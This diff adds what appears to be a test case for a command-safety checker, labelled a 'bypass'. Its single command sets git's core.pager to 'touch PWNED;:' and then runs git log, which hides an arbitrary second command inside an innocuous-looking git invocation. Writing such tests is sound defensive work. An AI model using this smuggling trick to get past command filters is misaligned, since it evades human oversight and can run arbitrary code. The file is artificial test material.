@@ -1,0 +1,11 @@
+#@ id: st-alias-file
+#@ about: creates PWNED (stands for running any program)
+#@ class: state-carry
+#@ kind: bypass
+#@ origin: https://github.com/BlockRunAI/Franklin/blob/main/CHANGELOG.md
+#@ world: catalogue
+#@ setup: @GIT@
+#@ delivery: tty
+#@ body: no-final-newline
+#@ ---
+git config core.pager 'touch PWNED;:'; git -p log
